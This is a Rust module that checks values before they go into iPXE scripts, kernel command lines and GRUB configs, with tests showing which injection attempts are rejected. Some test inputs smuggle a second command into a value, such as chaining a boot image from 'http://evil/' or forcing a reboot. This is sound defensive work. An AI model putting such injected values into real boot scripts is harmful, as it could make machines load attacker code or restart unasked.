//! The rules that keep a value inside one word of its target (the parent
//! module says why each exists), as checks on one value.

use thiserror::Error;

use super::Loader;

/// Why a value was left out.
#[derive(Debug, Error, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum Unsafe {
    /// A newline, tab or other control character.
    #[error("it contains a control character (newline, tab, …)")]
    Control,
    /// Whitespace in an iPXE word.
    #[error("it contains a space, which iPXE cannot quote")]
    IpxeWhitespace,
    /// A space at the start or the end, in a kernel argument iPXE carries.
    #[error("it starts or ends with a space, which would let iPXE read the text beside it as a word")]
    IpxeSpaceAtEdge,
    /// `$`, `{` or `}`.
    #[error("it contains $, {{ or }}, which iPXE would expand as a setting")]
    IpxeExpansion,
    /// A word starting with `#`.
    #[error("a word of it starts with #, which starts an iPXE comment")]
    IpxeComment,
    /// A word of only `|`, `&` and `;`.
    #[error("a word of it is made of |, & and ;, which iPXE reads as command separators")]
    IpxeSeparator,
    /// A word starting with `-` or `:`.
    #[error("it starts a word with - or :, which iPXE reads as an option or a label")]
    IpxeOptionOrLabel,
    /// A `\` at the end of a line.
    #[error("it ends a line with \\, which continues the iPXE line onto the next")]
    IpxeContinuation,
    /// A `"` in a kernel command line.
    #[error("it contains \", which a kernel command line cannot quote")]
    KernelQuote,
    /// A value needing quotes in an argument the template quotes.
    #[error("it needs quotes, and the template quotes its argument itself")]
    KernelNestedQuotes,
    /// A value that would make its argument `--`.
    #[error("it would make the argument --, which ends the kernel's parameters")]
    KernelEndOfParameters,
    /// Whitespace in a GRUB command line.
    #[error("it contains whitespace, which GRUB does not pass to the kernel the same way in every release")]
    GrubWhitespace,
    /// `'` or `\` in a GRUB command line.
    #[error("it contains ' or \\, which some GRUB releases pass to the kernel with a \\ added")]
    GrubEscaped,
}

/// Where a value sits among iPXE words.
#[derive(Clone, Copy, Debug)]
pub(super) struct Place {
    /// The value's first character starts a word.
    pub(super) starts_word: bool,
    /// The value's last character may end a line.
    pub(super) ends_line: bool,
}

/// The iPXE rules (module docs) for one value; `words` lets it hold
/// spaces, each space-separated word then checked on its own.
pub(super) fn ipxe_value(value: &str, place: Place, words: bool) -> Result<(), Unsafe> {
    if value.chars().any(char::is_control) {
        return Err(Unsafe::Control);
    }
    if value.contains(['$', '{', '}']) {
        return Err(Unsafe::IpxeExpansion);
    }
    if !words && value.contains(|c: char| c.is_ascii_whitespace()) {
        return Err(Unsafe::IpxeWhitespace);
    }
    // A space at an edge would make the text beside the value a word of
    // its own, unchecked.
    if words && (value.starts_with(' ') || value.ends_with(' ')) {
        return Err(Unsafe::IpxeSpaceAtEdge);
    }
    for (i, word) in value.split(' ').enumerate() {
        let starts_word = i > 0 || place.starts_word;
        if starts_word && word.starts_with('#') {
            return Err(Unsafe::IpxeComment);
        }
        if !word.is_empty() && word.chars().all(|c| matches!(c, '|' | '&' | ';')) {
            return Err(Unsafe::IpxeSeparator);
        }
        // Kernel arguments follow the image URL, where options have ended.
        if !words && starts_word && word.starts_with(['-', ':']) {
            return Err(Unsafe::IpxeOptionOrLabel);
        }
    }
    if place.ends_line && value.ends_with('\\') {
        return Err(Unsafe::IpxeContinuation);
    }
    Ok(())
}

/// Whether the kernel would split at some byte of `value`.
pub(super) fn has_kernel_space(value: &str) -> bool {
    value.bytes().any(|b| b.is_ascii_whitespace() || b == 0xa0)
}

/// The rules for a value in a kernel argument that do not depend on where
/// in the argument it is.
pub(super) fn kernel_value(value: &str, loader: Loader) -> Result<(), Unsafe> {
    if value.chars().any(char::is_control) {
        return Err(Unsafe::Control);
    }
    if value.contains('"') {
        return Err(Unsafe::KernelQuote);
    }
    if loader == Loader::Grub {
        if has_kernel_space(value) {
            return Err(Unsafe::GrubWhitespace);
        }
        if value.contains(['\'', '\\']) {
            return Err(Unsafe::GrubEscaped);
        }
    }
    Ok(())
}

/// Characters GRUB reads literally outside quotes.
pub(super) fn grub_plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || "-_.,:/=+@%".contains(c)
}

#[cfg(test)]
mod tests {
    use super::*;

    const MID_LINE: Place = Place { starts_word: false, ends_line: false };
    const WORD: Place = Place { starts_word: true, ends_line: false };
    const LINE_END: Place = Place { starts_word: false, ends_line: true };

    /// One value in an iPXE script line, wherever it sits.
    #[test]
    fn ipxe_words() {
        use Unsafe::*;
        for (value, place, expected) in [
            ("SN-1234.5/x", WORD, Ok(())),
            ("Müller_àß", WORD, Ok(())),
            ("quote\"d'", WORD, Ok(())),
            ("a#b", WORD, Ok(())),
            ("a||b", WORD, Ok(())),
            ("back\\slash", LINE_END, Ok(())),
            ("trail\\", MID_LINE, Ok(())),
            ("#x", MID_LINE, Ok(())),
            ("-n", MID_LINE, Ok(())),
            ("", WORD, Ok(())),
            ("#x", WORD, Err(IpxeComment)),
            ("-n", WORD, Err(IpxeOptionOrLabel)),
            (":label", WORD, Err(IpxeOptionOrLabel)),
            ("||", MID_LINE, Err(IpxeSeparator)),
            ("&", MID_LINE, Err(IpxeSeparator)),
            (";", WORD, Err(IpxeSeparator)),
            ("a b", WORD, Err(IpxeWhitespace)),
            ("x || reboot", MID_LINE, Err(IpxeWhitespace)),
            ("x && chain http://evil/", MID_LINE, Err(IpxeWhitespace)),
            ("tab\there", WORD, Err(Control)),
            ("line\nchain http://evil/", WORD, Err(Control)),
            ("cr\r", WORD, Err(Control)),
            ("nul\0", WORD, Err(Control)),
            ("${net0/ip}", WORD, Err(IpxeExpansion)),
            ("$", WORD, Err(IpxeExpansion)),
            ("{x", WORD, Err(IpxeExpansion)),
            ("x}", WORD, Err(IpxeExpansion)),
            ("trail\\", LINE_END, Err(IpxeContinuation)),
        ] {
            assert_eq!(ipxe_value(value, place, false), expected, "{value:?} at {place:?}");
        }
        // Inside a kernel argument spaces are allowed, and each word is
        // checked where it starts.
        for (value, place, expected) in [
            ("PowerEdge R640", MID_LINE, Ok(())),
            (" a", MID_LINE, Err(IpxeSpaceAtEdge)),
            ("a ", MID_LINE, Err(IpxeSpaceAtEdge)),
            ("a  b", MID_LINE, Ok(())),
            ("-n x", WORD, Ok(())),
            ("a #b", MID_LINE, Err(IpxeComment)),
            ("x || reboot", MID_LINE, Err(IpxeSeparator)),
            ("x ; reboot", MID_LINE, Err(IpxeSeparator)),
            ("a\tb", MID_LINE, Err(Control)),
            ("${x} y", MID_LINE, Err(IpxeExpansion)),
        ] {
            assert_eq!(ipxe_value(value, place, true), expected, "{value:?} at {place:?}");
        }
    }

    /// One value in a kernel argument, per loader.
    #[test]
    fn kernel_values() {
        use Loader::*;
        use Unsafe::*;
        for (value, loader, expected) in [
            ("a b", Pxelinux, Ok(())),
            ("a b", Ipxe, Ok(())),
            ("à la carte", Pxelinux, Ok(())),
            ("${x} #y || z \\ '", Pxelinux, Ok(())),
            ("${x}|#", Grub, Ok(())),
            ("Müller", Grub, Ok(())),
            ("quote\"d", Pxelinux, Err(KernelQuote)),
            ("quote\"d", Ipxe, Err(KernelQuote)),
            ("quote\"d", Grub, Err(KernelQuote)),
            ("a\nb", Pxelinux, Err(Control)),
            ("a\tb", Ipxe, Err(Control)),
            ("a\u{85}b", Pxelinux, Err(Control)),
            ("a b", Grub, Err(GrubWhitespace)),
            ("à", Grub, Err(GrubWhitespace)),
            ("it's", Grub, Err(GrubEscaped)),
            ("back\\slash", Grub, Err(GrubEscaped)),
        ] {
            assert_eq!(kernel_value(value, loader), expected, "{value:?} for {loader:?}");
        }
        assert!(has_kernel_space("\u{a0}") && has_kernel_space("à") && !has_kernel_space("ü"));
    }
}
